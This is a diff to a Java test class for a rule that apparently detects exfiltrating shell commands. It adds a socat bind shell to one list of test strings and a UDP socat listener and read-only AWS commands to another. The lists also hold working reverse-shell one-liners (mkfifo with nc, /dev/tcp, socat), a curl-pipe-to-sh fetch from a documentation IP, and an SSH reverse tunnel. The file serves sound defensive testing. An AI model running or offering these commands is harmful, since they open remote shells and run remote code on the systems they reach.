@@ -187,6 +187,7 @@ class ExfiltratingShellCommandTest implements RuleContract {
                 "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h.example 1 > /tmp/f",
                 "exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
                 "socat exec:'bash -li',pty tcp:203.0.113.9:443",
+                "socat tcp-listen:4444,fork exec:/bin/sh",
                 "nc h.example 443 | bash",
                 "curl http://203.0.113.9/i.sh | sh",
                 "ssh -N -R 2222:localhost:22 me@h.example",
@@ -324,6 +325,11 @@ class ExfiltratingShellCommandTest implements RuleContract {
                 "scp dist.tgz host:/srv",
                 "tar czf - dist | ssh host 'tar xz'",
                 "nc -zv db.example 5432",
+                "socat -v udp4-recvfrom:6000,fork exec:'/bin/cat'",
+                "aws ec2 describe-snapshot-attribute --snapshot-id s --attribute"
+                        + " createVolumePermission",
+                "aws iam generate-service-last-accessed-details --arn"
+                        + " arn:aws:iam::aws:policy/AdministratorAccess",
                 "echo > /dev/tcp/localhost/5432",
                 "curl -fsSL https://sh.example.org/install | sh",
                 "echo 'export EDITOR=vim' >> ~/.bashrc",
